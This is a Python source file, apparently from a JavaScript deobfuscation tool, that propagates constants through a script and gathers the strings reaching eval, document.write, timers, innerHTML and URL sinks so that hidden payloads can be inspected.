            return receiver + "".join(_to_str(a) for a in args)
        if method == "indexOf":
            return float(receiver.find(_to_str(args[0]))) if args else -1.0
        if method == "replace" and len(args) >= 2 and isinstance(args[0], str):
            return receiver.replace(args[0], _to_str(args[1]), 1)
        if method == "toString":
            return receiver
    if isinstance(receiver, list):
        if method == "join":
            sep = _to_str(args[0]) if args else ","
            out = sep.join(_to_str(v) for v in receiver)
            return out if len(out) <= _MAX_FOLDED_STRING else UNKNOWN
        if method == "reverse":
            return list(reversed(receiver))
        if method == "slice":
            start = int(_to_num(args[0])) if args else 0
            end = int(_to_num(args[1])) if len(args) > 1 else len(receiver)
            return receiver[start:end]
        if method == "concat":
            out = list(receiver)
            for a in args:
                out.extend(a if isinstance(a, list) else [a])
            return out
    if isinstance(receiver, float):
        if method == "toString":
            base_val = int(_to_num(args[0])) if args else 10
            if base_val == 10:
                return _to_str(receiver)
            try:
                value = int(receiver)
            except (ValueError, OverflowError):
                return UNKNOWN
            digits = "0123456789abcdefghijklmnopqrstuvwxyz"
            if not 2 <= base_val <= 36:
                return UNKNOWN
            if value == 0:
                return "0"
            sign, value = ("-", -value) if value < 0 else ("", value)
            out: List[str] = []
            while value:
                value, rem = divmod(value, base_val)
                out.append(digits[rem])
            return sign + "".join(reversed(out))
    return UNKNOWN


# ---------------------------------------------------------------------------
# Whole-script propagation
# ---------------------------------------------------------------------------

def _count_writes(program: N.Node) -> Dict[str, int]:
    """How many times each name is written anywhere in the script."""
    writes: Dict[str, int] = {}

    def bump(name: str, by: int = 1) -> None:
        writes[name] = writes.get(name, 0) + by

    for node in program.walk():
        if isinstance(node, N.VarDecl):
            for name, _init in node.declarations:
                bump(name)
        elif isinstance(node, N.Assignment) and isinstance(node.target, N.Identifier):
            bump(node.target.name)
        elif isinstance(node, N.Update) and isinstance(node.argument, N.Identifier):
            bump(node.argument.name, 2)  # mutation: never a constant
        elif isinstance(node, N.ForIn):
            bump(node.target, 2)
        elif isinstance(node, N.FunctionDecl):
            bump(node.name, 2)  # function values are not folded
            for param in node.params:
                bump(param, 2)
        elif isinstance(node, N.FunctionExpr):
            for param in node.params:
                bump(param)  # may become a constant via IIFE binding
        elif isinstance(node, N.Try) and node.catch_param:
            bump(node.catch_param, 2)
    return writes


def _initializers(program: N.Node) -> List[Tuple[str, N.Node]]:
    """(name, rhs) pairs from declarations, assignments, IIFE bindings."""
    out: List[Tuple[str, N.Node]] = []
    for node in program.walk():
        if isinstance(node, N.VarDecl):
            for name, init in node.declarations:
                if init is not None:
                    out.append((name, init))
        elif isinstance(node, N.Assignment) and node.operator == "=" and isinstance(
            node.target, N.Identifier
        ):
            out.append((node.target.name, node.value))
        elif isinstance(node, N.Call) and isinstance(node.callee, N.FunctionExpr):
            # IIFE: bind parameters to their (possibly constant) arguments
            for param, arg in zip(node.callee.params, node.arguments):
                out.append((param, arg))
    return out


def propagate(program: N.Node) -> Resolution:
    """Run constant propagation and collect resolved sink strings."""
    resolution = Resolution()
    writes = _count_writes(program)
    initializers = _initializers(program)

    env: Dict[str, Any] = {}
    # iterate to a fixed point: chains like a = 'x'; b = a + 'y' need
    # one extra round per dependency level (bounded — each round must
    # resolve at least one new name)
    for _ in range(len(initializers) + 1):
        progress = False
        for name, rhs in initializers:
            if name in env or writes.get(name, 0) != 1:
                continue
            value = fold(rhs, env)
            if value is not UNKNOWN:
                env[name] = value
                progress = True
        if not progress:
            break
    resolution.constants = env

    for node in program.walk():
        if isinstance(node, N.Call):
            _collect_call(node, env, resolution)
        elif isinstance(node, N.Assignment):
            _collect_assignment(node, env, resolution)
        elif isinstance(node, N.New):
            path = callee_path(node.callee)
            if path == "Function" and node.arguments:
                value = fold(node.arguments[-1], env)
                if isinstance(value, str):
                    resolution.eval_payloads.append(
                        ResolvedString(value, "eval", detail="new Function"))
    return resolution


_EVAL_CALLEES = ("eval", "window.eval", "execScript", "Function")
_WRITE_CALLEES = ("document.write", "document.writeln", "write", "writeln")
_TIMER_CALLEES = ("setTimeout", "setInterval", "window.setTimeout", "window.setInterval")
_URL_MEMBER_PROPS = ("src", "href", "location", "action", "data")


def _collect_call(node: N.Call, env: Dict[str, Any], resolution: Resolution) -> None:
    path = callee_path(node.callee)
    if not path or not node.arguments:
        return
    if path in _EVAL_CALLEES or path.endswith(".eval"):
        value = fold(node.arguments[0], env)
        if isinstance(value, str):
            resolution.eval_payloads.append(ResolvedString(value, "eval", detail=path))
    elif path in _WRITE_CALLEES or path.endswith(".write") or path.endswith(".writeln"):
        parts = [fold(a, env) for a in node.arguments]
        if all(isinstance(p, str) for p in parts):
            resolution.write_payloads.append(
                ResolvedString("".join(parts), "write", detail=path))
    elif path in _TIMER_CALLEES:
        value = fold(node.arguments[0], env)
        if isinstance(value, str):
            resolution.eval_payloads.append(ResolvedString(value, "timer", detail=path))
    elif path.endswith(".setAttribute") and len(node.arguments) >= 2:
        attr = fold(node.arguments[0], env)
        value = fold(node.arguments[1], env)
        if attr in _URL_MEMBER_PROPS and isinstance(value, str):
            resolution.url_strings.append(ResolvedString(value, "url", detail=str(attr)))
    elif (path.endswith("location.replace") or path.endswith("location.assign")
          or path == "open" or path.endswith("window.open")):
        value = fold(node.arguments[0], env)
        if isinstance(value, str):
            resolution.url_strings.append(ResolvedString(value, "url", detail=path))


def _collect_assignment(node: N.Assignment, env: Dict[str, Any],
                        resolution: Resolution) -> None:
    target = node.target
    if not isinstance(target, N.Member):
        return
    prop = target.prop.value if isinstance(target.prop, N.StringLiteral) else None
    if prop is None or (prop not in _URL_MEMBER_PROPS and prop != "innerHTML"):
        return
    value = fold(node.value, env)
    if not isinstance(value, str):
        return
    if prop == "innerHTML":
        resolution.write_payloads.append(ResolvedString(value, "write", detail="innerHTML"))
    else:
        resolution.url_strings.append(
            ResolvedString(value, "url", detail=callee_path(target) or prop))
